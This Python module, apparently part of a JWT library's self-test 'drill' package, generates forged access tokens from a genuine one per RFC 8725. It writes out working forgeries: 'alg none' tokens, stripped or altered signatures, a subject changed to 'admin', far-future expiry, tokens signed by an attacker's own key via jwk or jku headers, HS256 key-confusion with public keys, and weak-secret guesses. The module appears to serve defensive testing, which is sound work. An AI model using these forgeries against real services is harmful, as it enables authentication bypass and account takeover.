"""Forges access tokens from a genuine one, as an attacker does who has no key of the issuer. RFC 8725."""

import hmac
import json
from collections.abc import Iterator
from contextlib import suppress
from typing import Any

from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from asgi_jwt.drill.devices import header_of, payload_of
from asgi_jwt.tokens.algorithms import key_of
from asgi_jwt.tokens.compact import encode_base64url
from asgi_jwt.tokens.key import Key
from asgi_jwt.tokens.key_rotation import generate_jwk

_LATER = 4_102_444_800  # in the year 2100
_GUESSES = ("secret", "changeme", "your-256-bit-secret", "your-secret-key", "jwt-secret", "s" * 32, "x" * 32)


def forged_tokens(genuine: str, jwks: dict[str, Any]) -> Iterator[tuple[str, str]]:
    """A name and a token for each forgery. `jwks`: the published keys, for the confusion of a key with a secret."""
    header, payload = header_of(genuine), payload_of(genuine)
    first, second, signature = genuine.split(".")
    yield "another character in the signature", f"{first}.{second}.{_other(signature)}"
    yield "an empty signature", f"{first}.{second}."
    yield "two segments", f"{first}.{second}"
    yield "exp in the year 2100", f"{first}.{_segment({**payload, 'exp': _LATER})}.{signature}"
    yield "another subject", f"{first}.{_segment({**payload, 'sub': 'admin'})}.{signature}"
    for alg in ("none", "None", "NONE"):
        yield f"alg {alg}", f"{_segment({**header, 'alg': alg})}.{second}."
    yield "alg none with the signature", f"{_segment({**header, 'alg': 'none'})}.{second}.{signature}"
    yield from _own_key(header, second)
    for name, secret in [*_public_keys(jwks), *((f"the secret {guess!r}", guess.encode()) for guess in _GUESSES)]:
        yield f"alg HS256 with {name}", _hs256({**header, "alg": "HS256"}, second, secret)


def _own_key(header: dict[str, Any], payload: str) -> Iterator[tuple[str, str]]:
    """Tokens that the attacker's own key signs, with the key or its address in the header."""
    key = Key.from_jwk(jwk := generate_jwk("ES256"))
    public = {name: jwk[name] for name in ("kty", "crv", "x", "y")}
    named: dict[str, dict[str, Any]] = {
        "the issuer's kid": {},
        "the key in jwk": {"jwk": public},
        "an address in jku": {"jku": "https://drill.invalid/jwks.json"},
    }
    for name, members in named.items():
        signed = f"{_segment({**header, **members, 'alg': 'ES256'})}.{payload}"
        signature = encode_base64url(key.sign("ES256", signed.encode())).decode()
        yield f"a foreign key with {name}", f"{signed}.{signature}"


def _public_keys(jwks: dict[str, Any]) -> Iterator[tuple[str, bytes]]:
    """The published keys in PEM and as they are published, which a verifier may mistake for a secret."""
    keys = jwks.get("keys")
    for jwk in keys[:2] if isinstance(keys, list) else ():
        with suppress(ValueError, TypeError, AttributeError):
            pem = key_of(jwk).public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
            yield "the public key in PEM as the secret", pem
            yield "the public JWK as the secret", json.dumps(jwk, separators=(",", ":")).encode()


def _hs256(header: dict[str, Any], payload: str, secret: bytes) -> str:
    signed = f"{_segment(header)}.{payload}"
    return f"{signed}.{encode_base64url(hmac.digest(secret, signed.encode(), 'sha256')).decode()}"


def _segment(members: dict[str, Any]) -> str:
    return encode_base64url(json.dumps(members, separators=(",", ":")).encode()).decode()


def _other(signature: str) -> str:
    """The signature with another first character, so that no unused bits change alone."""
    return ("B" if signature.startswith("A") else "A") + signature[1:]
